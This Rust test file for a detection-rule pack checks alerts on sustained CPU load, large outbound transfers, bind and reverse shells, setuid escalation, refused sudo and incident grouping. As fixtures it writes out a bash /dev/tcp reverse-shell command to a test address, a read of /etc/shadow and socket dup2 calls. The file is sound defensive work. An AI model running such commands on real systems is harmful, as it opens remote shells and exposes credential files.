//! The built-in pack's rules on sustained load, volume and bind shells, and its incidents: one
//! attack's alerts are one incident.

mod common;

use common::{only, Feed};
use kiln_rules::Incidents;
use serde_json::json;

fn sample(f: &mut Feed, ms: i64, pct: f64) -> Vec<String> {
    f.rec(
        ms,
        "sample",
        json!({"cpuPct": pct, "cpuCount": 2, "memUsed": 1 << 28, "memTotal": 1 << 30}),
    )
}

#[test]
fn sustained_full_cpu() {
    let mut f = Feed::new();
    // Two minutes of samples at 5 s: fires on the sample two minutes after the first.
    let mut fired = Vec::new();
    for _ in 0..24 {
        assert!(sample(&mut f, 5000, 97.0).is_empty());
    }
    fired.extend(sample(&mut f, 5000, 99.5));
    only(fired, "sustained_full_cpu");
    // It starts over: the next two minutes are needed again.
    assert!(sample(&mut f, 5000, 98.0).is_empty());
    // A dip below 90 % breaks the run: a busy build with pauses, a burst, never fire.
    let mut fired = Vec::new();
    for i in 0..200 {
        fired.extend(sample(
            &mut f,
            5000,
            if i % 20 == 19 { 40.0 } else { 100.0 },
        ));
    }
    assert!(fired.is_empty(), "{fired:?}");
    // A gap of more than two minutes between samples (a paused sandbox) starts over.
    let mut f = Feed::new();
    for _ in 0..20 {
        assert!(sample(&mut f, 5000, 100.0).is_empty());
    }
    assert!(sample(&mut f, 600_000, 100.0).is_empty());
    assert!(sample(&mut f, 5000, 100.0).is_empty());
}

fn close(f: &mut Feed, ms: i64, bytes_out: u64) -> Vec<String> {
    f.net(
        ms,
        "close",
        "198.51.100.30:443",
        json!({"bytesOut": bytes_out, "bytesIn": 2000, "durationMs": 900}),
    )
}

#[test]
fn outbound_volume() {
    let mut f = Feed::new();
    // 3 × 40 MB within a minute: 100 MB reached on the third.
    assert!(close(&mut f, 1000, 40_000_000).is_empty());
    assert!(close(&mut f, 20_000, 40_000_000).is_empty());
    only(close(&mut f, 20_000, 40_000_000), "outbound_volume");
    // 40 MB every 200 s never has 100 MB within 5 minutes.
    let mut f = Feed::new();
    let mut fired = Vec::new();
    for _ in 0..30 {
        fired.extend(close(&mut f, 200_000, 40_000_000));
    }
    assert!(fired.is_empty(), "{fired:?}");
    // Downloads (bytes in) do not count.
    let mut f = Feed::new();
    for _ in 0..10 {
        let fired = f.net(
            1000,
            "close",
            "198.51.100.30:443",
            json!({"bytesOut": 2000, "bytesIn": 90_000_000, "durationMs": 900}),
        );
        assert!(fired.is_empty(), "{fired:?}");
    }
}

#[test]
fn bind_shell_stdio_socket() {
    let mut f = Feed::new();
    let dup = |f: &mut Feed, pid: i64, new: i64, key: &str| {
        let mut b = json!({"call": "dup2", "pid": pid, "process": "python3", "oldfd": 4,
                           "newfd": new, "fdPath": "socket:[12]", "result": new});
        b[key] = json!("198.51.100.9:40000");
        f.rec(5, "syscall", b)
    };
    only(dup(&mut f, 70, 0, "accepted"), "bind_shell_stdio_socket");
    only(dup(&mut f, 70, 2, "accepted"), "bind_shell_stdio_socket");
    // An accepted connection moved to another descriptor (a server's ordinary work).
    assert!(dup(&mut f, 71, 9, "accepted").is_empty());
    // The connect side is the reverse shell's rule, not this one.
    only(dup(&mut f, 72, 1, "socket"), "reverse_shell_stdio_socket");
}

#[test]
fn root_without_the_broker() {
    // Syscall records carry the caller's real and effective uid (gVisor's credentials).
    let mut f = Feed::new();
    let open = |f: &mut Feed, process: &str, uid: i64, euid: i64| {
        f.rec(
            5,
            "syscall",
            json!({"call": "openat", "pid": 700, "process": process,
                                   "path": "/etc/ld.so.cache", "flags": 0o2000000, "result": 3,
                                   "uid": uid, "euid": euid}),
        )
    };
    // A setuid-root program run by the user.
    only(open(&mut f, "su", 1000, 0), "root_without_the_broker");
    // Root through the API or the broker: real uid root too.
    assert!(open(&mut f, "apt-get", 0, 0).is_empty());
    // The user's own processes, and a record without credentials.
    assert!(open(&mut f, "python3", 1000, 1000).is_empty());
    assert!(f
        .rec(
            5,
            "syscall",
            json!({"call": "openat", "pid": 700, "process": "x", "path": "/x", "result": 3})
        )
        .is_empty());
    // Root dropping to a user (setuid programs that drop at once) is not an escalation.
    assert!(open(&mut f, "sshd", 0, 1000).is_empty());
}

#[test]
fn sudo_refused() {
    let mut f = Feed::new();
    let ev = |f: &mut Feed, event: &str, detail: &str| {
        f.rec(5, "lifecycle", json!({"event": event, "detail": detail}))
    };
    only(
        ev(
            &mut f,
            "sudo-refused",
            "sudo refused: user user (uid 1000) asked to run /usr/bin/id as root (no rule allows it)",
        ),
        "sudo_refused",
    );
    assert!(ev(&mut f, "oom", "Out of memory: Killed process 7 (hog)").is_empty());
    // A granted sudo leaves no such record: the benign suite's `sudo apt-get` raises nothing.
    assert!(f.cmd("sudo apt-get install -y jq").is_empty());
}

#[test]
fn a_reverse_shell_is_one_incident() {
    // bash's /dev/tcp shell as the records show it with syscall auditing: the agent's start,
    // the execve, the shell's connect, its dup2s onto 0-2; and a shadow read in between.
    let mut f = Feed::new();
    let mut alerts = Vec::new();
    alerts.extend(f.alerts(
        10,
        "process",
        json!({"event": "start", "cmd": "/bin/bash", "args": ["-l", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"], "pid": 80, "pty": false}),
    ));
    alerts.extend(f.alerts(
        5,
        "syscall",
        json!({"call": "execve", "pid": 81, "process": "bash", "path": "/bin/bash", "argv": ["bash", "-i"]}),
    ));
    alerts.extend(f.alerts(
        5,
        "syscall",
        json!({"call": "connect", "pid": 81, "process": "bash", "fd": 3, "address": "198.51.100.7:4444", "result": 0}),
    ));
    alerts.extend(f.alerts(5, "process", json!({"event": "start", "cmd": "/bin/bash", "args": ["-l", "-c", "cat /etc/shadow"], "pid": 82, "pty": false})));
    for fd in 0..3 {
        alerts.extend(f.alerts(
            5,
            "syscall",
            json!({"call": "dup2", "pid": 81, "process": "bash", "oldfd": 3, "newfd": fd, "result": fd, "socket": "198.51.100.7:4444"}),
        ));
    }
    let rules: Vec<&str> = alerts.iter().map(|a| a.rule.as_str()).collect();
    assert_eq!(
        rules,
        [
            "reverse_shell_dev_tcp",
            "shell_connects_out",
            "read_shadow",
            "reverse_shell_stdio_socket",
            "reverse_shell_stdio_socket",
            "reverse_shell_stdio_socket",
        ]
    );
    let mut inc = Incidents::default();
    let admitted: Vec<_> = alerts.iter().map(|a| inc.admit(a)).collect();
    let opened: Vec<&str> = alerts
        .iter()
        .zip(&admitted)
        .filter(|(_, a)| a.opened)
        .map(|(a, _)| a.rule.as_str())
        .collect();
    assert_eq!(opened, ["reverse_shell_dev_tcp", "read_shadow"]);
    let shell = admitted[0].incident;
    assert!(admitted
        .iter()
        .zip(&alerts)
        .all(|(adm, a)| (adm.incident == shell) == (a.incident == "remote_shell")));
    assert_eq!(
        admitted[5].count, 5,
        "the shell's five firings are one incident"
    );
}
